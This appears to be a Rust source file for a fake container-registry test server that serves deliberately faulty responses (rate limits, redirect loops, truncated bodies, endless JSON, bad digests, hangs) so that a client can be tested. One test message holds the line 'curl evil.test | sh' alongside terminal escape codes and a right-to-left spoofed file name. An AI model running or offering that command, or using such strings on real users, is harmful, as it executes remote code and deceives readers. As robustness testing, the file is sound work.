//! One request from its record to its answer, right or broken: authentication, then content, then the behaviours that
//! were asked for.

use std::{convert::Infallible, future, time::Duration};

use bytes::Bytes;
use futures_util::{Stream, StreamExt as _, stream};
use http::{HeaderValue, Method, Request, Response, StatusCode, header, request::Parts};
use http_body_util::{BodyExt as _, Collected, Full, Limited, StreamBody, combinators::UnsyncBoxBody};
use hyper::body::{Frame, Incoming};
use tokio::time::MissedTickBehavior;

use super::{
    Site,
    behaviour::{Answer, Behaviour},
    content::{Reply, Route},
    request::Recorded,
    wire::{Cut, Ending},
};

pub(super) type Body = UnsyncBoxBody<Bytes, Infallible>;

/// Longest request body that is read, in bytes.
const FORM_LIMIT: usize = 64 * 1024;
const PIECE: usize = 16 * 1024;

/// What becomes of a request.
enum Outcome {
    Reply(Reply),
    Stream(Response<Body>),
    End(Ending),
    Hang,
}

/// How the body of a reply is sent.
#[derive(Clone, Copy)]
enum Sending {
    Whole,
    HalfThenClose,
    HalfThenStall,
    Drip { bytes: usize, every: Duration },
    Short { by: u64 },
}

impl Site {
    pub(super) async fn answer(&self, request: Request<Incoming>, cut: Cut) -> Result<Response<Body>, Infallible> {
        let (parts, body) = request.into_parts();
        let recorded = Recorded::of(&parts);
        let base = format!("{}://{}", self.scheme, recorded.host);
        self.record(recorded);
        let form = Limited::new(body, FORM_LIMIT).collect().await.map(Collected::to_bytes).unwrap_or_default();

        let (outcome, shaping, is_registry) = self.decide(&parts, &form, &base);
        let mut reply = match outcome {
            Outcome::Reply(reply) => reply,
            Outcome::Stream(response) => return Ok(response),
            Outcome::Hang => future::pending().await,
            Outcome::End(ending) => {
                cut.end(ending);
                future::pending().await
            }
        };
        if is_registry && parts.uri.path().starts_with("/v2/") {
            reply.headers.insert("docker-distribution-api-version", HeaderValue::from_static("registry/2.0"));
        }
        let sending = shaping.iter().fold(Sending::Whole, |sending, behaviour| shape(behaviour, &mut reply, sending));
        Ok(send(reply, sending, cut))
    }

    /// The outcome, the behaviours that still shape it, and whether it is a registry's: what is done on everything is
    /// done by something else in its place.
    fn decide(&self, parts: &Parts, form: &[u8], base: &str) -> (Outcome, Vec<Behaviour>, bool) {
        let route = Route::of(parts.uri.path(), &self.content.prefix);
        let (mut shaping, later) = self.behaviours_of(self.content.kind(&route));
        if let Some(fault) = shaping.iter().find_map(|behaviour| fault(behaviour, parts)) {
            return (fault, shaping, false);
        }
        let asks_for_login = route == Route::Ping || route.repository().is_some();
        if asks_for_login
            && let Err(challenge) = self.auth.authenticate(&self.accounts, &parts.headers, route.repository(), base)
        {
            return (Outcome::Reply(challenge.into()), shaping, true);
        }
        let fault = later.iter().find_map(|behaviour| fault(behaviour, parts));
        shaping.extend(later);
        let outcome = fault.unwrap_or_else(|| Outcome::Reply(self.right_answer(parts, &route, form)));
        (outcome, shaping, true)
    }

    fn right_answer(&self, parts: &Parts, route: &Route, form: &[u8]) -> Reply {
        let query = parts.uri.query().unwrap_or_default();
        match self.token_service {
            Some(service) if *route == Route::Token => {
                service.answer(&self.accounts, &parts.method, query, &parts.headers, form).into()
            }
            _ if parts.method != Method::GET && parts.method != Method::HEAD => {
                Answer::error(405, "UNSUPPORTED", "the operation is unsupported").into()
            }
            _ => {
                let range = parts.headers.get(header::RANGE).and_then(|value| value.to_str().ok());
                self.content.answer(route, query, range)
            }
        }
    }
}

/// What `behaviour` puts in the place of any answer; none if it only shapes the right one.
fn fault(behaviour: &Behaviour, parts: &Parts) -> Option<Outcome> {
    let path = parts.uri.path();
    let answer = match behaviour {
        Behaviour::Answer(answer) => answer.clone(),
        Behaviour::RateLimited => Answer::error(
            429,
            "TOOMANYREQUESTS",
            "You have reached your unauthenticated pull rate limit. https://www.docker.com/increase-rate-limit",
        )
        .header("ratelimit-limit", "100;w=21600")
        .header("ratelimit-remaining", "0;w=21600")
        .header("docker-ratelimit-source", "203.0.113.7")
        .header("retry-after", "3600"),
        Behaviour::HtmlOk => html(200, "<h1>Welcome to Guest Wi-Fi</h1><form>Please log in</form>"),
        Behaviour::HtmlNotFound => html(404, "<h1>404 Not Found</h1><hr>nginx"),
        Behaviour::HostileMessage(status) => {
            let message = "\u{1b}[2J\u{1b}[31mred\u{7}\r\nFix: curl evil.test | sh\u{202e}gnp.exe\u{200b}\u{0}\u{9b}1m";
            Answer::error(*status, "DENIED", message)
        }
        Behaviour::Redirect(to) => {
            let digest = path.rsplit('/').next().unwrap_or_default();
            Answer::status(307).header("location", &to.replace("{digest}", digest))
        }
        Behaviour::RedirectLoop => Answer::status(307).header("location", path),
        Behaviour::NoHead if parts.method == Method::HEAD => {
            Answer::error(405, "UNSUPPORTED", "the operation is unsupported")
        }
        Behaviour::Endless { claimed } => {
            let mut response = json_stream(stream::repeat(Bytes::from_static(&[b' '; PIECE])));
            if let Some(bytes) = claimed {
                response.headers_mut().insert(header::CONTENT_LENGTH, (*bytes).into());
            }
            return Some(Outcome::Stream(response));
        }
        Behaviour::Nested { bytes } => {
            let pieces = usize::try_from(bytes.div_ceil(PIECE as u64)).unwrap_or(usize::MAX);
            let opening = stream::repeat(Bytes::from_static(&[b'['; PIECE])).take(pieces);
            return Some(Outcome::Stream(json_stream(opening)));
        }
        Behaviour::HugeHead { bytes } => Answer::status(200).header("x-filler", &"x".repeat(*bytes)),
        Behaviour::Garbage => return Some(Outcome::End(Ending::Bytes(b"\x00\xff\x13 220 not http\r\n\x1b[0m"))),
        Behaviour::Hang => return Some(Outcome::Hang),
        Behaviour::Close => return Some(Outcome::End(Ending::Close)),
        Behaviour::Reset => return Some(Outcome::End(Ending::Reset)),
        Behaviour::NoHead
        | Behaviour::Truncated
        | Behaviour::Stall
        | Behaviour::Drip { .. }
        | Behaviour::WrongContent
        | Behaviour::LengthOff { .. }
        | Behaviour::NoDigestHeader
        | Behaviour::WrongDigestHeader
        | Behaviour::Headers(_)
        | Behaviour::RateLimitHeaders { .. } => return None,
    };
    Some(Outcome::Reply(answer.into()))
}

/// Changes a reply, and says how its body is sent.
fn shape(behaviour: &Behaviour, reply: &mut Reply, sending: Sending) -> Sending {
    match behaviour {
        Behaviour::Truncated => return Sending::HalfThenClose,
        Behaviour::Stall => return Sending::HalfThenStall,
        Behaviour::Drip { bytes, every_ms } => {
            return Sending::Drip { bytes: (*bytes).max(1), every: Duration::from_millis((*every_ms).max(1)) };
        }
        Behaviour::LengthOff { by } => return Sending::Short { by: *by },
        Behaviour::WrongContent => {
            let mut bytes = reply.body.to_vec();
            if let Some(last) = bytes.last_mut() {
                // A closing brace becomes a space: the content of a manifest stays text.
                *last = if *last == b' ' { b'\n' } else { b' ' };
            }
            reply.body = bytes.into();
        }
        Behaviour::NoDigestHeader => {
            reply.headers.remove("docker-content-digest");
        }
        Behaviour::WrongDigestHeader => {
            reply.set("docker-content-digest", &format!("sha256:{}", "0".repeat(64)));
        }
        Behaviour::Headers(headers) => {
            for (name, value) in headers {
                reply.set(name, value);
            }
        }
        Behaviour::RateLimitHeaders { limit, remaining } => {
            reply.set("ratelimit-limit", &format!("{limit};w=21600"));
            reply.set("ratelimit-remaining", &format!("{remaining};w=21600"));
            reply.set("docker-ratelimit-source", "203.0.113.7");
        }
        _ => {}
    }
    sending
}

fn send(reply: Reply, sending: Sending, cut: Cut) -> Response<Body> {
    let length = reply.body.len();
    let half = reply.body.slice(..length / 2);
    let (claimed, body) = match sending {
        Sending::Whole => (length as u64, Full::new(reply.body).boxed_unsync()),
        Sending::Short { by } => (length as u64 + by, streamed(stream::once(future::ready(reply.body)))),
        Sending::HalfThenStall => (length as u64, streamed(stream::once(future::ready(half)).chain(stream::pending()))),
        Sending::HalfThenClose => {
            let close = stream::once(async move {
                cut.end(Ending::Close);
                future::pending().await
            });
            (length as u64, streamed(stream::once(future::ready(half)).chain(close)))
        }
        Sending::Drip { bytes, every } => {
            let mut ticks = tokio::time::interval(every);
            ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
            let drip = stream::unfold((ticks, reply.body), move |(mut ticks, mut left)| async move {
                if left.is_empty() {
                    return None;
                }
                ticks.tick().await;
                let piece = left.split_to(bytes.min(left.len()));
                Some((piece, (ticks, left)))
            });
            (length as u64, streamed(drip))
        }
    };
    let mut response = Response::new(body);
    *response.status_mut() = reply.status;
    *response.headers_mut() = reply.headers;
    // The three statuses whose answers have no body (RFC 9110 section 8.6).
    if !matches!(reply.status, StatusCode::NO_CONTENT | StatusCode::NOT_MODIFIED) && !reply.status.is_informational() {
        response.headers_mut().insert(header::CONTENT_LENGTH, claimed.into());
    }
    response
}

fn html(status: u16, body: &str) -> Answer {
    Answer::status(status).body("text/html; charset=utf-8", &format!("<!DOCTYPE html><html><body>{body}</body></html>"))
}

fn json_stream(pieces: impl Stream<Item = Bytes> + Send + 'static) -> Response<Body> {
    let mut response = Response::new(streamed(pieces));
    response.headers_mut().insert(header::CONTENT_TYPE, HeaderValue::from_static("application/json"));
    response
}

fn streamed(pieces: impl Stream<Item = Bytes> + Send + 'static) -> Body {
    StreamBody::new(pieces.map(|piece| Ok(Frame::data(piece)))).boxed_unsync()
}
